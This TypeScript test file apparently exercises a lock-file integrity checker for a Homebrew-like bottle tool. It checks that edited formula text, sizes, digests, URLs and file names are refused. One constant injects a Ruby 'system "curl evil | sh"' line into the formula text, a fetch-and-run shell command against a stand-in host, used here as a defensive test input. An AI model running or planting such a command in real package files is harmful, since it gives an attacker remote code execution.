import { mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';

import { runCli, type CliResult } from '../support/cli/run-cli.ts';
import { startClosureWorld, type ClosureWorld } from '../support/world/closure-world.ts';

const LOCK = 'brewpull.lock.json';
const EVIL = String.raw`system \"curl evil | sh\"\nclass `;

let world: ClosureWorld;
let work: string;

beforeAll(async () => {
  world = await startClosureWorld();
});
afterAll(() => world[Symbol.asyncDispose]());
beforeEach(async () => {
  work = await mkdtemp(join(tmpdir(), 'brewpull-values-'));
  await mkdir(join(work, 'cache'));
  await run('lock', 'app', '--target', 'big_sur', '--tap-dir', world.tap.path);
});
afterEach(() => rm(work, { recursive: true, force: true }));

function run(...argv: readonly string[]): Promise<CliResult> {
  const place = ['--registry', world.registry.url.href, '--cache-dir', join(work, 'cache')];
  return runCli([...argv, ...place], { cwd: work });
}

/** Changes the lock as an editor would. */
async function changeLock(change: (text: string) => string): Promise<string> {
  const path = join(work, LOCK);
  const text = await readFile(path, 'utf8');
  const changed = change(text);
  expect(changed).not.toBe(text);
  await writeFile(path, changed);
  return changed;
}

const USES = [
  ['bundle', '--frozen', '-o', 'made'],
  ['bundle', '--frozen', '--locked', '-o', 'made'],
  ['bundle', 'app', '--locked', '-o', 'made'],
  ['pull', '--frozen', '-o', 'made'],
  ['pull', 'app', '--locked', '-o', 'made'],
  ['plan', '--frozen'],
  ['lock', '--update', 'base'],
];

test.each(USES)('%s %s uses no text of a formula that is not its formulaBlob', async (...argv) => {
  await changeLock((text) => text.replace('"formulaText": "class ', `"formulaText": "${EVIL}`));

  const result = await run(...argv);

  expect(result).toMatchObject({ code: 4, stdout: '' });
  expect(result.stderr).toContain(`${LOCK} is not a lock of brewpull`);
  expect(result.stderr).toMatch(
    /formulaText of \w+ has the git object id [0-9a-f]{40}, and formulaBlob says [0-9a-f]{40}/,
  );
  await expect(stat(join(work, 'made'))).rejects.toThrow('ENOENT');
});

test('a text without its formulaBlob is not used', async () => {
  await changeLock((text) => text.replace(/"formulaBlob": "[0-9a-f]+"/, '"formulaBlob": null'));

  const result = await run('bundle', '--frozen', '-o', 'made');

  expect(result.code).toBe(4);
  expect(result.stderr).toContain('has no formulaBlob beside it');
});

test.each(USES.slice(0, 5))(
  '%s %s holds the sizes of a lock against the bytes',
  async (...argv) => {
    await changeLock((text) => text.replaceAll(/"sizeBytes": \d+/g, '"sizeBytes": 5'));
    const before = await readFile(join(work, LOCK));

    const result = await run(...argv);

    expect(result.code).toBe(4);
    expect(result.stderr).toMatch(/the size of .*5 bytes/);
    expect(await readFile(join(work, LOCK))).toEqual(before);
  },
);

test.each([
  ['manifestDigest', /"manifestDigest": "sha256:[0-9a-f]{4}/, '"manifestDigest": "sha256:0000'],
  ['url', /"url": "([^"]+)[0-9a-f]{4}"/, '"url": "$10000"'],
  ['fileName', /"fileName": "(\w)/, '"fileName": "x$1'],
])('%s of a lock that is not the bottle’s is refused', async (_name, pattern, other) => {
  await changeLock((text) => text.replace(pattern, other));

  const result = await run('bundle', '--frozen', '-o', 'made');

  expect(result.code).toBe(4);
  expect(result.stdout).toBe('');
});

test('verify finds a lock in a bundle whose size, or whose text with its id, is another', async () => {
  const made = await run('bundle', '--frozen', '-o', 'made');
  expect(made.code).toBe(0);
  const path = join(work, 'made', LOCK);
  const text = await readFile(path, 'utf8');
  await writeFile(path, text.replace(/"sizeBytes": \d+/, '"sizeBytes": 5'));

  const result = await run('verify', 'made', '--json');

  expect(result.code).toBe(4);
  expect(result.stdout).toContain('says sizeBytes 5 of');
});
